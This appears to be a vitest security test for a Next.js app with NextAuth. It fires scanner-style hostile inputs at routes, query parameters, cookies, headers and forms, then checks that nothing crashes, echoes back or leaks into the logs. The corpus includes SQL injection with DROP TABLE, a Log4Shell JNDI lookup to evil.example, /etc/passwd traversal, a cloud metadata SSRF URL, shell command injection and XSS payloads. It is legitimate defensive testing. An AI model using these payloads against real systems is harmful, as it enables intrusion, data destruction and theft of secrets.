import { expect, test } from "vitest";
import type { HttpBrowser } from "../support/browser";
import { newBrowser, openStack, signedIn, urlOf } from "./stack";

const stack = openStack();

/** One or two of each kind that scanners send. */
const corpus = [
  "' OR '1'='1' --",
  '1; DROP TABLE "User"; --',
  "\u0024{jndi:ldap://evil.example/a}",
  "{{7*7}}<%= 7*7 %>#{7*7}",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%00",
  "\u0000",
  "%0d%0aSet-Cookie:%20evil=1",
  "\r\nX-Evil: 1",
  "%ff%fe",
  "%u0041",
  "\ud800",
  "\u202e\u2066",
  "<svg/onload=alert(1)>",
  "javascript:alert(1)//",
  "data:text/html;base64,PHNjcmlwdD4=",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/meta-data/",
  "__proto__[polluted]=1",
  "constructor.prototype.polluted",
  '{"$ne":null}',
  "$(id)`id`|id;id",
  "() { :;}; echo evil",
  "%s%n%x%d",
  "-1",
  "1e309",
  "NaN",
  "0x7fffffff",
  "٠١٢",
  "a".repeat(4_000),
  "%",
  "%%30%30",
];

/** Where each of them goes: every place in which the app reads something. */
const places: [string, (browser: HttpBrowser, text: string) => Promise<{ status: number; body: string }>][] =
  [
    ["a page's path", (browser, text) => browser.send("GET", at("/", text))],
    ["the path of a connection", (browser, text) => browser.send("GET", at("/dashboard/disconnect/", text))],
    ["a path of NextAuth's", (browser, text) => browser.send("GET", at("/api/auth/", text))],
    [
      "the code",
      (browser, text) => browser.send("GET", query("/api/auth/callback/webflow", { code: text, state: "s" })),
    ],
    [
      "the state",
      (browser, text) => browser.send("GET", query("/api/auth/callback/webflow", { code: "c", state: text })),
    ],
    [
      "the error",
      (browser, text) => browser.send("GET", query("/api/auth/callback/webflow", { error: text })),
    ],
    [
      "the error page",
      (browser, text) => browser.send("GET", query("/auth/error", { error: text, [text]: text })),
    ],
    ["the pause", (browser, text) => browser.send("GET", query("/too-many-requests", { seconds: text }))],
    [
      "the activity's page",
      (browser, text) => browser.send("GET", query("/dashboard/activity", { before: text, page: text })),
    ],
    [
      "the return address",
      (browser, text) => browser.send("GET", query("/api/auth/signin", { callbackUrl: text, error: text })),
    ],
    [
      "the batch of keys",
      (browser, text) =>
        browser.send("POST", query("/api/cron/keys", { after: text }), {
          headers: { authorization: `Bearer ${stack().cronSecret}` },
        }),
    ],
    [
      "a cookie",
      (browser, text) =>
        browser.send("GET", urlOf(stack(), "/dashboard"), {
          headers: {
            cookie: `authjs.session-token=${encodeURIComponent(wellFormed(text))}; authjs.callback-url=${encodeURIComponent(wellFormed(text))}`,
          },
        }),
    ],
    [
      "headers",
      (browser, text) =>
        browser.send("GET", urlOf(stack(), "/install"), {
          headers: Object.fromEntries(
            [
              "user-agent",
              "referer",
              "x-forwarded-host",
              "x-forwarded-for",
              "accept-language",
              "x-request-id",
            ].map((name) => [name, encodeURI(wellFormed(text)).slice(0, 2_000)]),
          ),
        }),
    ],
    [
      "a form",
      (browser, text) => {
        const body = new FormData();
        for (const name of ["connection", "session", "confirm", text, "$ACTION_ID_x"])
          body.append(name, text);
        return browser.send("POST", urlOf(stack(), "/dashboard"), { body });
      },
    ],
  ];

/** The text as a part of a path: as it is where a URL takes it, else encoded. */
function at(prefix: string, text: string): URL {
  return new URL(
    `${stack().app.origin}${prefix}${/^[\w%.${}:;@()*'-]+$/.test(text) ? text : encodeURIComponent(wellFormed(text))}`,
  );
}

function query(path: string, parameters: Record<string, string>): URL {
  return new URL(`${path}?${new URLSearchParams(parameters)}`, stack().app.origin);
}

function wellFormed(text: string): string {
  return Buffer.from(text, "utf8").toString("utf8");
}

test.each(places)(
  "whatever a scanner puts into %s, no 500, no echo in the log, and the app goes on",
  async (name, send) => {
    const { app, database } = stack();
    const browser = await signedIn(stack());
    const before = app.logs().length;
    for (const text of corpus) {
      const { status, body } = await send(browser, text);
      expect(status, `${name}: ${text.slice(0, 60)}`).toBeLessThan(500);
      expect(body, `${name}: ${text.slice(0, 60)}`).not.toMatch(/<svg\/onload|root:x:0|\b49\b<%=/);
      expect(browser.cookies.has("evil")).toBe(false);
    }
    for (const line of app.logs().slice(before).split("\n").filter(Boolean)) {
      expect(() => JSON.parse(line), line).not.toThrow();
      expect(line).not.toMatch(/jndi|DROP TABLE|etc\/passwd|onload=/);
    }
    expect(await database.count("User")).toBe(1);
    expect((await newBrowser(stack()).open("/")).status).toBe(200);
  },
);
